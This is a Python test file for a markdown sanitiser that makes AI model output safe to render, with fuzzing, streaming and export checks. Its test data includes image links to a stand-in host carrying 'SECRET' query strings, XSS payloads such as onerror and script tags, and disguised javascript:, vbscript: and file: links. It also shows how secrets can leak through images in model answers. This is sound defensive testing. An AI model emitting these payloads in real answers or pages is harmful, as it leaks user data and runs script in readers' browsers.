"""`sanitize`: model output made safe to render, checked against markdown-it-py's own HTML of the result.

The checker below is built here, apart from the sanitiser's own parser: CommonMark with GitHub's
tables, strikethrough and footnotes (what Streamlit's renderer reads), raw HTML on, and every link
kept whatever its scheme, so nothing the renderer would build is hidden from the check.
"""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from mdit_py_plugins.footnote import footnote_plugin

from response_streaming.render import UNSAFE, LiveMarkdown, escape, safe_url, sanitize
from response_streaming.ui.format import plain

_CHECKER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_CHECKER.use(footnote_plugin, inline=False)
_CHECKER.validateLink = lambda url: True

# What CommonMark (with those extensions) makes on its own; raw HTML would bring anything else.
_TAGS = {
    "p",
    "em",
    "strong",
    "a",
    "code",
    "pre",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "blockquote",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "s",
    "section",
    "sup",
}
_ATTRS = {"href", "title", "class", "style", "start", "id"}


def render(markdown: str) -> str:
    return _CHECKER.render(markdown)


class Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        try:
            self.feed(html)
        except AssertionError:  # markup Python's parser can't follow (`<![CDATA[` ...): raw HTML got through
            self.tags.append(("unparseable", {}))

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)

    @property
    def links(self) -> list[str]:
        return [a.get("href") or "" for t, a in self.tags if t == "a"]


def scheme(url: str) -> str | None:
    m = re.match(r"^([a-z][a-z0-9+.\-]*):", url, re.I)
    return m.group(1).lower() if m else None


def problems(markdown: str) -> list[str]:
    """What in the rendered HTML could fetch, run or navigate somewhere unsafe ([] when nothing)."""
    found = []
    tokens = list(_CHECKER.parse(markdown))
    for t in tokens + [child for block in tokens for child in (block.children or [])]:
        if t.type in ("image", "html_inline", "html_block"):
            found.append(f"{t.type}: {t.content!r}")
    page = Elements(render(markdown))
    for tag, attrs in page.tags:
        if tag not in _TAGS:
            found.append(f"element <{tag}>")
        found += [f"attribute {k} on <{tag}>" for k in attrs if k not in _ATTRS]
    found += [f"link to {u!r}" for u in page.links if scheme(u) not in (None, "http", "https", "mailto")]
    return found


# The three constructs that got past the regex sanitiser (issue 10), each with the image CommonMark sees.
ESCAPED_BACKTICK = "\\`![x](http://evil.example/a.png?d=SECRET1)`"
BACKTICK_INFO_STRING = "```x`y\n![x](http://evil.example/b.png?d=SECRET2)\n```"
SPAN_ACROSS_HEADING = "`a\n# h ![x](http://evil.example/c.png?d=SECRET3)\n`"
THREE = [ESCAPED_BACKTICK, BACKTICK_INFO_STRING, SPAN_ACROSS_HEADING]


@pytest.mark.parametrize("text", THREE)
def test_the_three_constructs_that_fooled_the_regex_become_links_never_fetched(text):
    assert "<img" in render(text)  # the danger is real: CommonMark renders an image here
    out = sanitize(text)
    assert problems(out) == []
    url = re.search(r"\((http://evil[^)]*)\)", text).group(1)
    page = Elements(render(out))
    assert url in page.links and "Image: x" in "".join(page.text)  # the reader may open it on purpose


# Pieces that make parsers disagree: code delimiters, escapes, containers, HTML, references, footnotes.
ATOMS = [
    "![a](http://evil.example/i.png)",
    "![",
    "](",
    ")",
    "(",
    "[",
    "]",
    "[x]",
    "[x]: javascript:alert(1)\n",
    "[x]: http://evil.example/r.png\n",
    "![x]",
    "![x][x]",
    "![b](<http://evil.example/j k.png> 't')",
    "<img src=http://evil.example/h.png>",
    "<img\nsrc=x>",
    "<",
    ">",
    "`",
    "``",
    "```",
    "```x`y\n",
    "~~~\n",
    "\\",
    "\\`",
    "\\!",
    "# ",
    "## ",
    "> ",
    "- ",
    "1. ",
    "    ",
    "\n",
    "\n\n",
    "|",
    "| a | b |\n|---|---|\n",
    "| c |",
    "javascript:alert(1)",
    "<javascript:alert(1)>",
    "<http://ok.example>",
    "<a@b.c>",
    "<!--",
    "-->",
    "<script>",
    "</script>",
    "<div>",
    "</div>\n",
    "<a href=javascript:alert(1)>",
    "&#106;avascript:",
    "&lt;",
    "&#x3C;img>",
    "$",
    "$$",
    "*",
    "**",
    "_",
    "~~",
    "[^1]",
    "[^1]: ",
    "\t",
    " ",
    "word",
    "![](data:image/png;base64,AAA)",
    "[l](http://ok.example)",
    "[l](javascript:x)",
    "[l](JaVa\tscript:x)",
    "[l][x]",
    "[l]: vbscript:x\n",
    ":red[",
    "===\n",
    "---\n",
    '"',
    "'",
    "<?php ?>",
    "<![CDATA[",
    "]]>",
    "<style>",
    "</style>\n",
    "<pre>",
    "</pre>",
    "[![i](http://evil.example/n.png)](http://ok.example)",
    "![o ![p](http://evil.example/q.png)](http://e.example/r)",
]


def corpus(n: int, seed: int = 20261128) -> list[str]:
    rng = random.Random(seed)
    return ["".join(rng.choice(ATOMS) for _ in range(rng.randint(3, 24))) for _ in range(n)]


def test_a_fuzz_corpus_leaves_nothing_that_fetches_runs_or_links_unsafely():
    docs = corpus(2000) + THREE
    results = [(d, sanitize(d)) for d in docs]
    assert [(d, out, problems(out)) for d, out in results if problems(out)] == []
    # Not by giving up: whole-text fallbacks (shown as a code block) stay rare.
    fallbacks = [d for d, out in results if out.startswith(("```text", "````text"))]
    assert len(fallbacks) <= len(docs) // 100, fallbacks


def test_the_corpus_is_hostile_before_sanitising():
    """The fuzz test means something only if its input renders images, raw HTML and unsafe links."""
    found = " ".join(p for d in corpus(300) for p in problems(d))
    assert "image" in found and "html_inline" in found and "html_block" in found and "link to" in found


def test_every_redraw_of_a_streamed_hostile_answer_is_safe():
    """What the page is sent at every moment, not only the final text: each tail and frozen block."""
    sent: list[str] = []

    class Element:
        def markdown(self, text):
            sent.append(text)

    class Container:
        def container(self):
            return self

        def empty(self):
            return Element()

        def caption(self, text):
            pass

    text = "\n\n".join(corpus(40, seed=7) + THREE)
    view = LiveMarkdown(Container(), interval=0.0)
    for i in range(0, len(text), 7):
        view.update(text[i : i + 7])
    view.finish()
    assert len(sent) > 100
    assert [s for s in sent if problems(s.removesuffix(LiveMarkdown.CURSOR))] == []


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "javascript&#58;alert(1)",
        "&#106;avascript:alert(1)",
        "javascript\\:alert(1)",
        "<javascript:alert(1)>",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "java\u200bscript:x",
    ],
)
def test_script_data_and_file_links_are_unsafe(url):
    assert not safe_url(url)


@pytest.mark.parametrize(
    "url", ["https://example.com/a_(b)", "http://x.org", "mailto:a@b.c", "#section", "/relative", "page.html?a=1:2"]
)
def test_web_mail_and_relative_links_are_kept(url):
    assert safe_url(url)


def test_unsafe_links_go_nowhere_and_keep_their_text():
    out = sanitize(
        "[a](javascript:alert(1)) [b](JaVa&#115;cript:x) [c [nested]](data:text/html,x) "
        "[d](<javascript:y>) <javascript:alert(2)> [r] [s][]\n\n[r]: javascript:alert(3)\n[s]:\n  vbscript:z"
    )
    page = Elements(render(out))
    assert page.links == [UNSAFE] * 6 and problems(out) == []
    assert "".join(page.text).split() == ["a", "b", "c", "[nested]", "d", "<javascript:alert(2)>", "r", "s"]


def test_images_become_links_labelled_as_before():
    out = sanitize(
        "![cat](https://evil.example/p.png?q=secret) ![](data:image/png;base64,AAAA) ![ref][r] wow![\n\n"
        "[r]: https://evil.example/ref.png\n\n[![badge](https://evil.example/b.png)](https://ok.example)"
    )
    page = Elements(render(out))
    assert problems(out) == []
    assert page.links == [
        "https://evil.example/p.png?q=secret",
        UNSAFE,
        "https://evil.example/ref.png",
        "https://ok.example",
    ]
    assert "".join(page.text).split("\n")[0] == "Image: cat Image: no description Image: ref wow!["
    assert "Image: badge" in "".join(page.text)  # inside a link, where no link can go: just the label


def test_raw_html_is_shown_as_text_and_code_verbatim():
    text = (
        "<script>alert(1)</script> <img src=x onerror=alert(1)> <!-- c -->\n\n"
        "Inline <b onclick=x>bold</b> and <https://x.org>.\n\n"
        "Use `<div>` or ``a ` <b>``.\n\n```html\n<b>![x](javascript:y)</b>\n```"
    )
    out = sanitize(text)
    assert problems(out) == []
    shown = "".join(Elements(render(out)).text)
    assert "<script>alert(1)</script> <img src=x onerror=alert(1)> <!-- c -->" in shown
    assert "Inline <b onclick=x>bold</b> and https://x.org." in shown  # a web autolink stays a link
    assert "Use `<div>` or ``a ` <b>``." in out and "```html\n<b>![x](javascript:y)</b>\n```" in out


def test_html_blocks_in_quotes_and_lists_keep_their_container():
    out = sanitize("> <div>\n> <img src=http://evil.example/z.png>\n\n- <div>\n  ![i](http://evil.example/l.png)\n")
    assert problems(out) == []
    assert out.startswith("> \\<div\\>\n> \\<img") and "\n- \\<div\\>\n  " in out


def test_a_code_span_cannot_hide_html_across_paragraphs():
    out = sanitize("`start\n\n<img src=x onerror=alert(1)>\n\n`")
    assert problems(out) == [] and "<img src=x onerror=alert(1)>" in "".join(Elements(render(out)).text)


def test_footnotes_are_sanitised_like_the_rest():
    out = sanitize("Text[^1].\n\n[^1]: Note ![f](http://evil.example/f.png) <b>x</b>\n")
    assert problems(out) == [] and "http://evil.example/f.png" in Elements(render(out)).links


def test_dollars_are_text_not_maths():
    assert sanitize("It costs $5 or $10.") == "It costs \\$5 or \\$10."
    assert sanitize("`$x` \\$y") == "`$x` \\$y"


def test_safe_markdown_is_unchanged():
    text = (
        "# Title\n\n**bold** _it_ [link](https://example.com) - item ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "> quoted `code`\n\n1. one\n2. two\n\n```py\nprint('<b>')\n```\n\n    indented\n\nA line  \nbreak."
    )
    assert sanitize(text) == text


def test_what_the_sanitiser_cannot_place_is_shown_as_a_code_block(monkeypatch):
    import response_streaming.sanitize as module

    monkeypatch.setattr(module, "_safe_tokens", lambda tokens: False)
    text = "![x](http://evil.example/a.png) ```` and ``` inside"
    out = sanitize(text)
    assert out == f"`````text\n{text}\n`````" and problems(out) == []


def test_escape_shows_any_text_literally():
    text = "![x](http://evil.example/a.png) <b>*hi*</b> `c` $1 | # [l]: javascript:x"
    page = Elements(render(escape(text)))
    assert "".join(page.text).strip() == text and page.tags == [("p", {})]


def test_labels_carry_no_markdown():
    label = plain("![x](https://evil.example/i.png) **bold** :red[c] 1. item")
    assert "![" not in label and "](" not in label and "**" not in label and ":red[" not in label
    assert label.replace("\\", "") == "![x](https://evil.example/i.png) **bold** :red[c] 1. item"


def test_the_markdown_export_neutralises_images_html_and_links_too():
    from response_streaming.export import export_markdown
    from response_streaming.store import StoredMessage

    hostile = "\n\n".join([*THREE, "<img src=http://evil.example/e.png>", "[go](javascript:alert(1))"])
    conversation = {"id": "c1", "title": "![t](http://evil.example/title.png)\n<b>x</b>"}
    msgs = [
        StoredMessage(1, "user", "Say <script>alert(1)</script>", "complete", "", {}),
        StoredMessage(2, "assistant", "Partial", "error", "upstream said ![e](http://evil.example/err.png)", {}),
        StoredMessage(3, "user", "Again", "complete", "", {}),
        StoredMessage(4, "assistant", hostile, "complete", "", {}),  # its lone ``` opens a fence to the end
    ]
    md = export_markdown(conversation, msgs)
    assert problems(md) == []
    shown = "".join(Elements(render(md)).text)
    assert "Say <script>alert(1)</script>" in shown and "<img src=http://evil.example/e.png>" in shown
    assert "http://evil.example/err.png" in Elements(render(md)).links  # the error's image is a link now


def test_escaped_pipes_in_table_cells_are_placed_exactly():
    """GitHub's tables unescape `\\|` before the inline parse; edits land where they belong all the same."""
    out = sanitize("| a \\| b $1 | c |\n|---|---|\n| `x \\| y` $2 | ![i](http://evil.example/i.png) <b>\\|</b> |")
    assert out == (
        "| a \\| b \\$1 | c |\n|---|---|\n"
        "| `x \\| y` \\$2 | [Image\\: i](<http://evil.example/i.png>) \\<b\\>\\|\\<\\/b\\> |"
    )
    assert problems(out) == []


def test_a_parser_failure_shows_the_text_as_code_instead_of_failing_the_page(monkeypatch):
    import response_streaming.sanitize as module

    def broken(text):
        raise IndexError("a parser bug")

    monkeypatch.setattr(module, "_rewrite", broken)
    assert sanitize("![x](http://evil.example/a.png)") == "```text\n![x](http://evil.example/a.png)\n```"
